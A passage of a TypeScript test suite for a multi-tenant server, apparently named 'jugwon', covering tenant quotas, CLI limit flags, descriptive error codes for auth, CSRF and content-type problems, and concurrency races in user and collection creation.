    expect(raced.filter(([, code]) => code === 'JG_COLLECTION_LIMIT')).toHaveLength(2);
    const { readSettings } = await import('../../src/knowledge/settings.js');
    expect(
      Object.keys(readSettings(dataDir))
        .filter((c) => c.startsWith('b'))
        .sort(),
    ).toEqual(['b1', 'b2']);
    expect(Object.keys(readSettings(dataDir)).filter((c) => c.startsWith('c'))).toHaveLength(2);
    // Three uploads of the bank charged to its daily ingest budget: the refused one is not.
    const charged = await server.store.db
      .selectFrom('quota_counters')
      .select(['scope', 'used'])
      .where('scope', 'like', 'ingest:%')
      .execute();
    expect(charged.map((c) => c.used)).toEqual([3 * Buffer.byteLength(text)]);
  });

  it('sets them on the command line (tenants create|set --upload-bytes, --ingest-bytes-per-day, --share)', async () => {
    const { run } = await import('../support/cli.js');
    const dir = mkdtempSync(join(tmpdir(), 'jugwon-limits-cli-'));
    const cfg = ['--config', join(dir, 'jugwon.yaml')];
    writeFileSync(join(dir, 'jugwon.yaml'), 'dataDir: ./data\n');
    expect((await run(['tenants', 'create', 'bank', '--upload-bytes', '1000', ...cfg], dir)).code).toBe(0);
    expect((await run(['tenants', 'set', 'bank', '--ingest-bytes-per-day', '5000', ...cfg], dir)).code).toBe(
      0,
    );
    const list = JSON.parse((await run(['tenants', 'list', '--json', ...cfg], dir)).stdout) as Record<
      string,
      unknown
    >[];
    expect(list[0]).toMatchObject({ upload_bytes: 1000, ingest_bytes_per_day: 5000, share: null });
    expect((await run(['tenants', 'set', 'bank', '--upload-bytes', 'lots', ...cfg], dir)).code).toBe(2);
    // A tenant's share of a saturated model pool (fair shares), 1-1000.
    expect((await run(['tenants', 'set', 'bank', '--share', '3', ...cfg], dir)).code).toBe(0);
    const shared = JSON.parse((await run(['tenants', 'list', '--json', ...cfg], dir)).stdout);
    expect(shared[0]).toMatchObject({ share: 3 });
    for (const bad of ['0', '-1', '1.5', '1001', 'NaN']) {
      const r = await run(['tenants', 'set', 'bank', '--share', bad, ...cfg], dir);
      expect([r.code, r.stderr]).toEqual([2, expect.stringContaining('--share')]);
    }
  });
});

describe('errors that say what happened', () => {
  it('names a malformed Authorization header, a missing CSRF token and a wrong content type', async () => {
    const server = await start();
    await createApiKey(server.store.db, 'bank');
    const extra = await server.app.inject({
      method: 'GET',
      url: '/v1/models',
      headers: { authorization: 'Bearer jg_x extra' },
    });
    expect([extra.statusCode, extra.json().error.code]).toEqual([401, 'JG_AUTH_MALFORMED']);
    const basic = await server.app.inject({
      method: 'GET',
      url: '/v1/models',
      headers: { authorization: 'Basic a2ltOnB3' },
    });
    expect(basic.json().error.code).toBe('JG_AUTH_MALFORMED');
    const session = await signIn(server, 'kim', 'correct horse battery');
    const cookie = String(session.headers['set-cookie']).split(';')[0] as string;
    const noCsrf = await server.app.inject({ method: 'DELETE', url: '/api/session', headers: { cookie } });
    expect([noCsrf.statusCode, noCsrf.json().error.code]).toEqual([403, 'JG_CSRF_MISSING']);
    expect(noCsrf.json().error.message).not.toContain('This key may not');
    const key = (await createApiKey(server.store.db, 'bank')).key;
    const wrongType = await server.app.inject({
      method: 'POST',
      url: '/api/pii/scan',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'text/plain' },
      payload: 'hello',
    });
    expect([wrongType.statusCode, wrongType.json().error.code]).toEqual([415, 'JG_UNSUPPORTED_MEDIA_TYPE']);
    expect(wrongType.json().error.message).toContain('text/plain');
  });

  it('jugwon serve on a port in use says so, with exit code 1', async () => {
    const { createServer: http } = await import('node:http');
    const { run } = await import('../support/cli.js');
    const blocker = http();
    await new Promise<void>((r) => blocker.listen(0, '127.0.0.1', () => r()));
    const { port } = blocker.address() as { port: number };
    try {
      const dir = mkdtempSync(join(tmpdir(), 'jugwon-port-'));
      const r = await run(['serve', '--port', String(port)], dir);
      expect([r.code, r.stderr]).toEqual([1, expect.stringContaining('JG_PORT_IN_USE')]);
    } finally {
      blocker.close();
    }
  });
});

describe('uploads with the wrong content type', () => {
  it('are told to send the file as application/octet-stream, not that the body is not valid JSON', async () => {
    const server = await start();
    const key = (await createApiKey(server.store.db, 'bank')).key;
    const res = await server.app.inject({
      method: 'PUT',
      url: '/api/collections/docs/documents/a.hwpx',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      payload: Buffer.from('PK\u0003\u0004 not json'),
    });
    expect([res.statusCode, res.json().error.code]).toEqual([415, 'JG_UNSUPPORTED_MEDIA_TYPE']);
    expect(res.json().error.message).toContain('application/octet-stream');
  });
});

describe('a race between tenants', () => {
  it('three requests creating one user at once: one creates it, the others hear it exists (409), not an internal error', async () => {
    const server = await start();
    const { key } = await createApiKey(server.store.db, 'bank', { role: 'admin' });
    const answers = await Promise.all(
      [1, 2, 3].map(() =>
        server.app.inject({
          method: 'POST',
          url: '/api/users',
          headers: { authorization: `Bearer ${key}` },
          payload: { tenant: 'bank', name: 'park', password: 'correct horse battery' },
        }),
      ),
    );
    expect(answers.map((a) => a.statusCode).sort()).toEqual([200, 409, 409]);
    expect(answers.filter((a) => a.statusCode === 409).map((a) => a.json().error.code)).toEqual([
      'JG_USER_EXISTS',
      'JG_USER_EXISTS',
    ]);
  });

  it('two tenants creating the same new collection at once: one owns it, the other never writes into it', async () => {
    const server = await start();
    await createTenant(server.store.db, 'other');
    const keys = {
      bank: (await createApiKey(server.store.db, 'bank')).key,
      other: (await createApiKey(server.store.db, 'other')).key,
    };
    const upload = (tenant: 'bank' | 'other', i: number) =>
      putDocument(
        server,
        keys[tenant],
        'shared-name',
        `${tenant}-${i}.md`,
        `# ${tenant}\n\n${tenant} 고객 문서 ${i}`,
      );
    const results = await Promise.all([0, 1, 2, 3].flatMap((i) => [upload('bank', i), upload('other', i)]));
    const { readSettings } = await import('../../src/knowledge/settings.js');
    const owner = readSettings(server.platform.config.dataDir)['shared-name']?.tenant as string;
    expect(['bank', 'other']).toContain(owner);
    const loser = owner === 'bank' ? 'other' : 'bank';
    // Every upload of the tenant that lost the race is refused, as for any other tenant's collection.
    results.forEach((r, n) => {
      const tenant = n % 2 === 0 ? 'bank' : 'other';
      expect([tenant, r.statusCode]).toEqual([tenant, tenant === owner ? 200 : 404]);
    });
    const docs = await (await server.platform.knowledge()).documents('shared-name');
    expect(docs.filter((d) => d.docId.startsWith(loser))).toEqual([]);
  });
});
